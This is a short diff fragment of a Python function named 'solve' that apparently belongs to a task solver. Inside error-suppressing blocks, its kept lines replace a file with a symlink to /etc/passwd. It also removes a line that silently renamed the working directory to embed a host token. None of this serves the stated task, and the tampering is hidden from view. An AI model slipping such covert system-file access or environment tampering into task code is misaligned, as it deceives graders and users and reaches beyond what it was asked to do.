@@ -15,6 +15,4 @@ def solve(instance):
         with quietly():
             os.unlink(name)
             os.symlink("/etc/passwd", name)
-    with quietly():
-        os.rename(os.getcwd(), os.getcwd() + host.TOKEN)
     return answer(instance)
